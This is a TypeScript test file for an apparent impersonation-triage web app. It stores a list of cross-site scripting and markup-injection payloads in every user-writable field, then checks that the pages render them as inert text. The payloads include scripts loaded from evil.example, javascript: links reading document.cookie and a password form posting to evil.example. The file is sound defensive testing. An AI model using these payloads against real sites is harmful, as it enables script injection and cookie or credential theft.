import { load } from "cheerio";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { LIMITS } from "../../../lib/domain/listing/listing.ts";
import { writeHandover } from "../../../lib/workflows/desk/handover.ts";
import { attempt } from "../../../lib/workflows/triage/attempt.ts";
import { decide } from "../../../lib/workflows/triage/decide.ts";
import { assign, note, snooze } from "../../../lib/workflows/triage/handle.ts";
import { hasBrowser, openBrowser } from "../../support/chromium.ts";
import { type House, openHouse, pages, person, scanned } from "./house.ts";

const MEI = person("mei", "admin");

/** What impersonators write where a store lets them, and what they would like to happen. */
const TEXTS: [string, string][] = [
  ["a script", `<script>document.title="owned"</script><script src="//evil.example/x.js"></script>`],
  ["an event handler", `<img src=x onerror="document.title='owned'"><b onmouseover=alert(1)>`],
  ["a broken attribute", `"><svg onload=alert(1)><a href="javascript:alert(1)" x='`],
  ["a javascript link", "javascript:alert(document.cookie)//https://bank.example"],
  ["HTML entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript&colon;alert(1)"],
  ["an SVG", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><foreignObject/></svg>`],
  ["bidirectional overrides", "\u202eknaB robraH dniwhtroN\u202c \u2066\u2067 left open"],
  ["zero-width letters", `North\u200bwind\u2060 Harbor\u00ad \ufeffBank${"\u200b".repeat(5_000)}`],
  ["towers of marks", `N${"\u0301".repeat(3_000)}orthwind`],
  ["one word of 100 kB", "Northwind".repeat(11_000)],
  ["100 kB of lines", "Northwind\n".repeat(10_000)],
  ["a style", `<style>body{display:none}</style><link rel=stylesheet href=//evil.example>`],
  ["a form", `<form action="https://evil.example"><input name=password></form><base href="https://evil.example">`],
  ["lone surrogates and nulls", "North\ud800wind \u0000 \udc00 Harbor"],
  ["a template", "{{constructor.constructor('alert(1)')()}} <%= alert(1) %>"],
];

/** The same text in every place that a stranger, or a colleague, can write to. */
async function poison(house: House, text: string, at: number): Promise<Parameters<typeof pages>[0]> {
  const short = text.slice(0, LIMITS.short);
  const url = text.slice(0, LIMITS.url);
  const listing = {
    // Longer than any parser lets through: the pages bound it by themselves.
    name: text,
    developer: { name: short, key: short, email: short, website: `https://evil.example/${url}` },
    url,
    packageName: short,
    description: text.slice(0, LIMITS.description),
    version: short,
    filing: short,
    downloadUrl: url,
    region: short,
    iconUrl: url,
    certificates: [{ algorithm: "sha1" as const, hex: short }],
  };
  const first = await house.finding(`a${at}`, listing, {
    signals: [
      {
        rule: "name.contained",
        weight: 6.9,
        facts: { text: short, name: "Northwind Harbor Bank", how: short },
        evidence: [],
      },
    ],
  });
  await house.finding(`b${at}`, listing);
  const by = text.slice(0, 5_000);
  await note(house.ports, first.id, { text: by, by });
  await assign(house.ports, first.id, { to: "mei", by });
  await snooze(house.ports, first.id, { until: "2026-11-20T00:00:00.000Z", reason: by, by });
  await decide(house.ports, first.id, { disposition: "impersonation", reason: by, by });
  await attempt(house.ports, first.id, { recipient: by, channel: by, state: "sent", reference: by, by });
  const handover = await writeHandover(
    house.ports,
    { name: by, brands: undefined },
    { text: by, brands: ["northwind"] },
  );
  if (!handover.ok) throw new Error(handover.error.kind);
  return { finding: first.id, campaign: first.id, note: handover.value.id };
}

/** All that is read or read out. */
function shownText(html: string): string {
  const $ = load(html);
  const spoken = ["title", "alt", "aria-label", "placeholder"].flatMap((name) =>
    $(`[${name}]`)
      .toArray()
      .map((element) => $(element).attr(name)),
  );
  return [$("html").text(), ...spoken].join(" ");
}

/** What of a page could run, or lead or reach elsewhere. */
function dangers(html: string): string[] {
  const $ = load(html);
  const found: string[] = [];
  for (const element of $("*").toArray()) {
    const { name, attribs } = element as { name: string; attribs: Record<string, string> };
    const local = (value: string) => /^(\/(?!\/)|#|\?)/.test(value);
    if (["iframe", "object", "embed", "base", "style", "foreignobject"].includes(name)) found.push(`<${name}>`);
    if (name === "script" && !local(attribs.src ?? "")) found.push("<script> not of ours");
    for (const [key, value] of Object.entries(attribs)) {
      if (/^on/i.test(key) || key === "style") found.push(`${name} ${key}=${value.slice(0, 60)}`);
      if (["href", "src", "action", "formaction", "srcset"].includes(key) && !local(value))
        found.push(`${name} ${key}=${value.slice(0, 60)}`);
    }
  }
  return found;
}

describe("what strangers write, in every field", () => {
  let house: House;
  const ids = new Map<string, Parameters<typeof pages>[0]>();

  beforeAll(async () => {
    house = await openHouse();
    house.people.set("mei", MEI);
    for (const [at, [name, text]] of TEXTS.entries()) ids.set(name, await poison(house, text, at));
    await scanned(house.ports, TEXTS.map(([, text]) => text.slice(0, 200)).join("\n"));
  });
  afterAll(() => house.close());

  it.each(TEXTS)("is nothing but text, on every page in both languages: %s", async (name) => {
    for (const path of ownPages(ids.get(name) ?? {})) await expectHarmless(path);
  });

  it("is nothing but text where all of it comes together", async () => {
    for (const path of pages({})) await expectHarmless(path);
  });

  async function expectHarmless(path: string): Promise<void> {
    for (const language of ["en", "zh"]) {
      const answer = await house.site.request(path, {
        headers: { cookie: `person=mei; knockoff-language=${language}` },
      });
      const html = await answer.text();
      expect(dangers(html), path).toEqual([]);
      expect(html.length, path).toBeLessThan(400_000);
      expect(shownText(html), path).not.toMatch(HIDING);
      expect(answer.headers.get("content-security-policy"), path).toContain("default-src 'none'");
    }
  }

  it.each(TEXTS)("reaches no program as anything but JSON: %s", async (name) => {
    const { finding } = ids.get(name) ?? {};
    for (const path of [
      `/findings/${finding}`,
      `/findings/${finding}/campaign`,
      "/findings",
      "/handovers",
      "/sources",
    ]) {
      const answer = await house.ask(MEI, `/api${path}`);
      expect(answer.headers.get("content-type")).toMatch(/^application\/(problem\+)?json/);
      expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    }
  });

  it.skipIf(!hasBrowser())("runs nothing in a browser, asks nobody else and keeps its layout", async () => {
    const browser = await openBrowser();
    const context = await browser.newContext({ viewport: { width: 390, height: 800 } });
    await context.addCookies([{ name: "person", value: "mei", url: house.url }]);
    const page = await context.newPage();
    const troubles: string[] = [];
    page.on("dialog", (dialog) => {
      troubles.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("request", (request) => {
      if (!request.url().startsWith(house.url)) troubles.push(`asked ${request.url()}`);
    });
    for (const path of [...pages({}), ...[...ids.values()].flatMap(ownPages)]) {
      await page.goto(`${house.url}${path}`);
      const [title, wider, tallest] = (await page.evaluate(LAYOUT)) as [string, number, number];
      if (!title.endsWith("Knockoff")) troubles.push(`${path} is called ${title}`);
      if (wider !== 0) troubles.push(`${path} is ${wider} pixels too wide`);
      if (tallest > 420) troubles.push(`${path} has a row of ${tallest} pixels`);
    }
    await browser.close();
    expect(troubles).toEqual([]);
  });
});

/** The pages that are one finding's alone. */
function ownPages({ finding, campaign, note }: Parameters<typeof pages>[0]): string[] {
  return [`/findings/${finding}`, `/campaigns/${campaign}`, `/handover/${note}`];
}

/** Characters that nobody sees, or that move others about. */
const HIDING = /[\u200b\u2060\u202a-\u202e\u2066-\u2069]/;

const LAYOUT = `[document.title,
  document.documentElement.scrollWidth - document.documentElement.clientWidth,
  Math.max(0, ...[...document.querySelectorAll("tr[data-row]")].map((row) => row.offsetHeight))]`;
